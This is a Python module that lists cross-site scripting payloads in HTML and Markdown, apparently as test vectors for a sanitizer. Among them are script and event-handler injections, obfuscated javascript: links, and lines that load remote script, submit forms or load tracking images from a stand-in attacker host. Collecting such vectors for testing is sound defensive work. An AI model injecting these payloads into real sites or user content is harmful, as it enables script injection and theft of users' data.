"""Classic ways to smuggle a script into a text, as people type them and as HTML."""

_MARKS = (
    """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="http://evil.example/track.gif">
<IMG SRC=javascript:alert(1)>
<IMG SRC="jav&#x09;ascript:alert(1);">
<IMG """
    + '"""'
    + """><SCRIPT>alert(1)</SCRIPT>">
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data="javascript:alert(1)">
<embed src="data:text/html;base64,PHNjcmlwdD4=">
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="x" onclick="alert(1)">x</a>
<a href="http://a.example" style="position:fixed;inset:0">x</a>
<form action="//evil.example"><button>x</button></form>
<input autofocus onfocus=alert(1)>
<button formaction=javascript:alert(1)>x</button>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<style>@import 'http://evil.example/x.css';</style>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href="//evil.example/">
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<xmp><script>alert(1)</script></xmp>
<plaintext><script>alert(1)</script>
<textarea><script>alert(1)</script></textarea>
<title><script>alert(1)</script></title>
<p id="csrfmiddlewaretoken" name="cookie">x</p>
<span class="button" data-reading-mark>x</span>
<select><option><script>alert(1)</script></select>
<table background="javascript:alert(1)">
<div style="background:url(javascript:alert(1))">x</div>
"><script>alert(1)</script>
'-alert(1)-'
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](javascript&colon;alert(1))
[x](&#x6A;avascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](vbscript:alert(1))
[x](file:///etc/passwd)
[x](http://a.example "onmouseover=alert(1)")
[x](http://a.example "\\" onmouseover=\\"alert(1)")
![x](http://evil.example/track.gif)
![x](javascript:alert(1))
![x"onerror="alert(1)](x)
<javascript:alert(1)>
<http://a.example/"onmouseover="alert(1)>
[x]: javascript:alert(1)
`<script>alert(1)</script>`
https://a.example/"onmouseover="alert(1)
https://a.example/<script>alert(1)</script>
@maria"><script>alert(1)</script>
@<script>alert(1)</script>
"""
)

VECTORS = [line for line in _MARKS.splitlines() if line]
